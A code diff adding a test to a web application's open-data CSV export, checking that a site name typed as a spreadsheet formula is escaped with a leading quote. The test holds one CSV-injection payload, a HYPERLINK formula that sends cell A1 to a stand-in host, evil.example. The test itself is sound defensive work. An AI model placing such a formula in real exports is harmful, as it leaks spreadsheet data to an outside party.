@@ -96,6 +96,16 @@ def test_csv_and_geojson(app, client, world):
     assert "Jean Dupont" not in response.get_data(as_text=True)
 
 
+def test_a_name_typed_as_a_formula_stays_text_in_the_csv(app, client, world):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    with app.test_request_context():
+        site = make_site(db.session.get(Organisation, world.owner), formula, publication=P.published)
+        make_unit(site, "Hall")
+        db.session.commit()
+    rows = list(csv.DictReader(io.StringIO(client.get("/open-data/sites.csv").get_data(as_text=True))))
+    assert [r["name"] for r in rows] == ["'" + formula]
+
+
 def test_the_api_computes_statuses_and_durations_as_of_a_day(app, client, world):
     school, _, _ = published_world(app, world)
     data = client.get(f"/api/v1/sites/{school}?as_of=2026-03-31").json
